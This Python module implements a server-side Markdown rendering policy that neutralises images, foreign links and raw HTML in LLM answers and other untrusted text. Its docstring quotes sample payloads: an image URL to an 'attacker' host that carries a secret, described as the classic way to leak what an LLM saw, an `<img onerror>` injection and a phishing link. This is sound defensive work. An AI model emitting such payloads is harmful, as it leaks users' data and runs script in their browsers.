"""The one rendering policy for every text the page shows (issue 10, item 1).

What reaches a person's screen comes from places we do not control: a model's answer, a
Superset title, a user's question, an error a proxy wrote. Each can carry Markdown or HTML
meant to act, not to be read: `![](https://attacker/?q=<secret>)` makes the browser fetch a
URL the moment it renders (the classic way to leak what an LLM saw), `<img onerror=…>`
runs script, `[docs](https://phish)` sends a click elsewhere. The policy:

- Text that is Markdown (model answers, questions, chat messages) is rendered here, on the
  server, with markdown-it-py (CommonMark plus tables and strikethrough) to HTML that the
  chat shows as is (`render_markdown=False`). Raw HTML is off, so tags show as text; images
  are never loaded, they show as text with their address; a link is live only when it
  points at a configured Superset base URL or at the app itself (a path such as
  `/agent/`), else it shows as its text followed by its address.
- App text that embeds outside values and is rendered by Gradio's own Markdown (the context
  pill, the sign-in label) escapes those values with `md_escape`, so they show verbatim.
- Plain text in HTML (chat step titles, the approval card, toasts) is HTML-escaped with
  `escape_html`: Gradio renders step titles and `gr.Error` messages as HTML.

Why server-side rendering rather than Gradio's `sanitize_html`: Gradio's sanitiser
(DOMPurify) keeps `<img src=http://…>` and links to any host, which is exactly the leak;
rendering ourselves puts the whole policy in one tested Python function, independent of
the frontend's Markdown flavour, and Gradio's sanitiser still runs on the result as a
second layer. No Gradio import here, so everything is unit-tested without a browser.
"""

from __future__ import annotations

import html
import re
import string
from collections.abc import Callable, Iterable, Sequence
from functools import lru_cache
from typing import Any
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.token import Token

from web.markdown_blocks import final_blocks_end

__all__ = ["DEFAULT_POLICY", "TextPolicy", "escape_html", "fenced", "md_code", "md_escape"]

_MD_SPECIAL = re.compile("([" + re.escape(string.punctuation) + "])")
_BACKTICKS = re.compile(r"`+")
_PRE = re.compile(r"(<pre>.*?</pre>)", re.DOTALL)


def escape_html(text: Any) -> str:
    """`text` as inert HTML text (quotes too, so it is safe in attributes)."""
    return html.escape("" if text is None else str(text), quote=True)


def md_escape(value: Any) -> str:
    """`value` as literal Markdown text: every ASCII punctuation mark is backslash-escaped
    (CommonMark's own way to say "this is a character"), which also defeats GFM autolinks
    of bare URLs and e-mail addresses; line breaks become spaces, so a value stays inline."""
    text = " ".join(("" if value is None else str(value)).split())
    return _MD_SPECIAL.sub(r"\\\1", text)


def md_code(value: Any) -> str:
    """`value` as an inline code span, inert in any Markdown (a backtick inside would end
    the span early, so it is replaced by a look-alike)."""
    return "`" + " ".join(str(value or "").split()).replace("`", "ˋ") + "`"


def fenced(text: str, lang: str = "") -> str:
    """`text` as a fenced code block whose fence is longer than any backtick run inside it,
    so no content can close it early (CommonMark's rule)."""
    longest = max((len(run) for run in _BACKTICKS.findall(text or "")), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{lang}\n{text or ''}\n{fence}"


def _text_token(content: str) -> Token:
    token = Token("text", "", 0)
    token.content = content
    return token


class TextPolicy:
    """Renders untrusted Markdown to HTML that cannot fetch, run or send anywhere unknown.

    `link_bases`: the URLs links may point at (each configured Superset's base URL); a link
    to the app itself is a path starting with one `/`.
    """

    def __init__(self, link_bases: Iterable[str] = ()) -> None:
        self._bases: tuple[tuple[str, str, int | None, str], ...] = tuple(
            base for base in (self._split(url) for url in link_bases) if base is not None)
        self._md = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(
            ["table", "strikethrough"])
        self._md.core.ruler.push("app_link_policy", self._neutralise)
        # A streamed answer re-renders every earlier message on each update: cache them.
        self.markdown: Callable[[str], str] = lru_cache(maxsize=2048)(self._markdown)
        # ... and the answer itself only grows: its final blocks are rendered once
        # (web/markdown_blocks.py), the rest on each update.
        self._final_blocks: Callable[[str], str] = lru_cache(maxsize=256)(self.render_whole)

    @classmethod
    def from_settings(cls, settings: Any) -> TextPolicy:
        """The policy for this deployment: live links to its configured Supersets only."""
        return cls(env.base_url for env in settings.superset_environments if env.base_url)

    @staticmethod
    def _split(url: str) -> tuple[str, str, int | None, str] | None:
        try:
            parts = urlsplit(str(url).strip())
            port = parts.port
        except ValueError:
            return None
        if parts.scheme not in ("http", "https") or not parts.hostname or parts.username:
            return None
        return parts.scheme, parts.hostname.lower(), port, parts.path.rstrip("/") + "/"

    def link_allowed(self, href: str) -> bool:
        """A path on the app itself, or an address under a configured Superset base URL."""
        if not href or "\\" in href or any(ord(ch) < 0x21 for ch in href):
            return False
        if href.startswith("/"):
            return not href.startswith("//")
        target = self._split(href)
        if target is None:
            return False
        scheme, host, port, path = target
        return any(scheme == b_scheme and host == b_host and port == b_port
                   and path.startswith(b_path) for b_scheme, b_host, b_port, b_path in self._bases)

    def _neutralise(self, state: StateCore) -> None:
        """Images become text; links elsewhere become their text and their address."""
        for block in state.tokens:
            if block.type != "inline" or not block.children:
                continue
            children: list[Token] = []
            # One entry per open link: its address when it is shown as text (else None),
            # and where its text starts among `children`.
            links: list[tuple[str | None, int]] = []
            for token in block.children:
                if token.type == "image":
                    alt = token.content or "image"
                    src = token.attrGet("src") or ""
                    children.append(_text_token(f"🖼 {alt} (image not loaded: {src})"))
                elif token.type == "link_open":
                    href = str(token.attrGet("href") or "")
                    if self.link_allowed(href):
                        token.attrSet("rel", "noopener noreferrer")
                        token.attrSet("target", "_blank")
                        children.append(token)
                        links.append((None, len(children)))
                    else:
                        links.append((href, len(children)))
                elif token.type == "link_close":
                    href, start = links.pop() if links else (None, len(children))
                    if href is None:
                        children.append(token)
                        continue
                    shown = "".join(t.content for t in children[start:] if t.type == "text")
                    if shown != href:  # an autolink's text is its address already
                        children.append(_text_token(f" ({href})"))
                else:
                    children.append(token)
            block.children = children

    def _markdown(self, text: str) -> str:
        end = final_blocks_end(text or "")
        if end:
            return self._final_blocks(text[:end]) + self.render_whole(text[end:])
        return self.render_whole(text)

    def render_whole(self, text: str) -> str:
        """`text` as HTML, parsed in one piece (`markdown` gives the same, faster for a
        text that grows)."""
        # The chat shows HTML with `white-space: pre-line`, where markdown-it's newlines
        # between tags would add blank lines: keep them only inside code blocks.
        parts = _PRE.split(self._md.render(text or "").strip())
        return "".join(part if part.startswith("<pre") else part.replace("\n", "")
                       for part in parts)

    def plain(self, text: Any) -> str:
        """Text shown as typed (a title, an error), line breaks kept."""
        return escape_html(text).replace("\n", "<br>")

    def chat(self, messages: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
        """Chatbot messages whose `content` is Markdown and `metadata.title` plain text, as
        the HTML the chat shows (`render_markdown=False`)."""
        shown = []
        for message in messages:
            out = dict(message)
            out["content"] = self.markdown(str(message.get("content") or ""))
            metadata = message.get("metadata")
            if metadata:  # a copy: a live run's renderer goes on changing its own
                out["metadata"] = dict(metadata)
                if metadata.get("title"):
                    out["metadata"]["title"] = escape_html(metadata["title"])
            shown.append(out)
        return shown


DEFAULT_POLICY = TextPolicy()
